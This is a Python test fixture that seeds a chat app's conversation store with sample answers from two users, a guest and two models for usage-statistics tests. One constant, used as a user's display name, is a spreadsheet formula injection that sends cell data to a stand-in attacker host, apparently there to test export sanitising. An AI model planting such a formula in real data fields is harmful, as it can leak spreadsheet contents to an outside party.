"""Answers saved the way the chat saves them (``webapp.chat.history.History`` with the stats
of ``webapp.llm.chat.GenerationStats``), for the usage tests: two signed-in users (one
whose name is a spreadsheet formula), a guest, two models."""

from __future__ import annotations

from datetime import timedelta

from webapp.access.identity import resolve_owner
from webapp.chat.history import History
from webapp.chat.limits import UsageLimits
from webapp.llm.chat import GenerationStats
from webapp.store import ConversationStore
from webapp.store.records import utcnow

LLAMA = "meta-llama/Llama-2-7b-chat-hf"
QWEN = "Qwen/Qwen2.5-7B-Instruct"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"**Bob**")'
IDP = "https://idp.example"
ALICE = resolve_owner(
    {"iss": IDP, "sub": "alice", "email": "Alice@Example.com", "email_verified": True,
     "name": "Alice"}, None
)  # fmt: skip
BOB = resolve_owner({"iss": IDP, "sub": "bob", "name": EVIL}, None)  # no verified e-mail
GUEST_OWNER = resolve_owner(None, "Zx9" * 8, client_address="203.0.113.7")


class Ago:
    """A store clock ``ago`` before the real time (the page reads with the real clock)."""

    def __init__(self, ago: timedelta = timedelta(hours=1)) -> None:
        self.ago = ago

    def __call__(self):
        return utcnow() - self.ago


def save_answer(store, owner, model, tokens_in, tokens_out, ttft_s) -> None:
    """One question and its answer, saved as the chat page saves them."""
    limits = UsageLimits(store, messages_per_minute=100, max_prompt_chars=1000,
                         max_conversations=10)  # fmt: skip
    history = History(store, limits, owner)
    conv = history.start()
    history.add(conv, "user", "a question")
    message_id = history.begin_answer(conv, "an")
    stats = GenerationStats(model=model, prompt_tokens=tokens_in, completion_tokens=tokens_out,
                            ttft_s=ttft_s, duration_s=ttft_s + 1)  # fmt: skip
    history.finish_answer(message_id, content="an answer", status="complete", meta=stats.as_dict())
    assert history.problem is None, history.problem


def seed_two_users_two_models(database_url: str) -> None:
    """Last hour: Alice 2x Llama + 1x Qwen, Bob 1x Llama, a guest 1x Qwen (1000 tokens);
    three days ago: Bob 1x Qwen (1000 tokens more)."""
    clock = Ago()
    store = ConversationStore(database_url, clock=clock)
    save_answer(store, ALICE, LLAMA, 100, 200, 0.2)
    save_answer(store, ALICE, LLAMA, 50, 50, 0.4)
    save_answer(store, ALICE, QWEN, 40, 60, 1.0)
    save_answer(store, BOB, LLAMA, 200, 200, 0.3)
    save_answer(store, GUEST_OWNER, QWEN, 60, 40, 2.0)
    clock.ago = timedelta(days=3)
    save_answer(store, BOB, QWEN, 500, 500, 3.0)
    store.dispose()
